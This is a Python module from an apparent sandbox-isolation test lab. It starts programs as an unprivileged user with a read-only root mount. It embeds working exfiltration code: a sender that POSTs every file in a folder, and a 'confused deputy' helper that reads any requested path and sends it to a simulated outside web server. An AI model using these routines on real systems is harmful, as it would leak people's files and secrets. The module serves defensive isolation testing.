# SPDX-License-Identifier: Apache-2.0
"""The user for whom runs are started, and what that one has outside of Belljar: a shell, a helper
that does what it is asked, a program that sends what lies in a folder.

All of these act with the user's rights, in a worker. There a wrong path must not reach the host's
disk, which an ordinary user who starts the lab may write to: everything but the lab's own mount is
read-only for them.
"""

import os
import socket
import struct
import subprocess

from belljar_lab import attack, outer
from belljar_lab.run import PATIENCE, Disagreement

PYTHON = ("/usr/bin/python3", "-I", "-S", "-c")
LOOPBACK = "127.0.0.1"
SYS_MOUNT_SETATTR, AT_FDCWD, AT_RECURSIVE, RDONLY = 442, -100, 0x8000, 1

# Posts bytes to the world's web server: text of a program, inside and outside.
SEND = f"""
import socket
def send(data):
    with socket.create_connection(({outer.PUBLIC!r}, 80)) as peer:
        peer.sendall(b"POST / HTTP/1.0\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(data) + data)
        peer.recv(64)
"""
HELPER = SEND + """
import os, sys
with socket.socket(fileno=int(sys.argv[1])) as door:
    while True:
        peer, _ = door.accept()
        with peer, peer.makefile() as lines:
            with open(lines.readline().rstrip("\\n"), "rb") as file:
                send(file.read())
            peer.sendall(b"sent")
"""
# Asks the helper: text of a program, inside and outside.
ASK = """
import socket
def ask(family, address, path):
    with socket.socket(family) as peer:
        peer.connect(address)
        peer.sendall(f"{path}\\n".encode())
        assert peer.recv(16) == b"sent", "the helper did not send it"
"""
SENDER = SEND + """
import os, sys
for name in os.listdir(sys.argv[1]):
    with open(os.path.join(sys.argv[1], name), "rb") as file:
        send(file.read())
"""


def modes(lab):
    """One mode of each kind of user, with a cgroup where the host gives one."""
    kinds = [[mode for mode in lab.modes if mode in kind]
             for kind in (attack.BY_ROOT, attack.BY_USER)]
    return [kind[0] for kind in kinds if kind]


def not_narrowed(lab, layer):
    """What a table that is always whole says to those who asked for a part of it."""
    return "" if lab.table.whole and not layer else \
        "This table is always whole: --attack and --layer do not narrow it."


# ---- The user's programs -------------------------------------------------------------------------


def set_read_only(path, flags, on):
    attributes = struct.pack("QQQQ", RDONLY if on else 0, 0 if on else RDONLY, 0, 0)
    outer.must(outer.libc.syscall(SYS_MOUNT_SETATTR, AT_FDCWD, os.fsencode(path), flags, attributes,
                                  len(attributes)), f"mount_setattr {path}")


def start(world, words, home=None, **how):
    """Starts a program as that user: a Popen."""
    def become():
        outer.must(outer.libc.unshare(outer.CLONE_NEWNS), "unshare")
        set_read_only("/", AT_RECURSIVE, True)
        set_read_only(world.place, 0, False)
        if world.uid:
            os.setgroups([])
            os.setresgid(world.uid, world.uid, world.uid)
            os.setresuid(world.uid, world.uid, world.uid)
    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(home or world.place / "home"),
           "LANG": "C.UTF-8"}
    return subprocess.Popen([str(word) for word in words], cwd=home or world.place, env=env,
                            stdin=subprocess.DEVNULL, preexec_fn=become, **how)


def stop(process):
    process.kill()
    process.wait()


def run(world, words, home=None):
    """Runs one to its end: what it said, on both streams."""
    process = start(world, words, home, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        return process.communicate(timeout=PATIENCE)[0]
    except subprocess.TimeoutExpired:
        stop(process)
        raise Disagreement(f"{words[0]}, of the user's, did not end") from None


class Helper:
    """A confused deputy: it sends the file that it is asked for, and its caller's rights are good
    enough for any file."""

    def __init__(self, world, family, home=None):
        self.world, self.family, self.home = world, family, home
        at = {socket.AF_INET: (LOOPBACK, 0), socket.AF_UNIX: str(world.dir("run") / "helper")}
        with socket.socket(family) as door:
            door.bind(at[family])
            self.address = door.getsockname()
            if family == socket.AF_UNIX:
                os.chmod(self.address, 0o666)  # many are; the file behind it is what is guarded
            door.listen()
            process = start(world, [*PYTHON, HELPER, door.fileno()], home,
                            pass_fds=[door.fileno()], stderr=subprocess.DEVNULL)
            world.cell.callback(stop, process)

    def ask_text(self, path):
        """Text of a program that asks it to send a file."""
        return ASK + f"ask({int(self.family)}, {self.address!r}, {str(path)!r})\n"

    def must_work(self):
        """The control: it sends what its own user asks it for."""
        token = self.world.token()
        path = self.world.file(text=token, mode=0o600)
        said = run(self.world, [*PYTHON, self.ask_text(path)], self.home)
        if not self.world.http.heard(token):
            raise Disagreement(f"the helper does not send what its user asks it for: {said}")
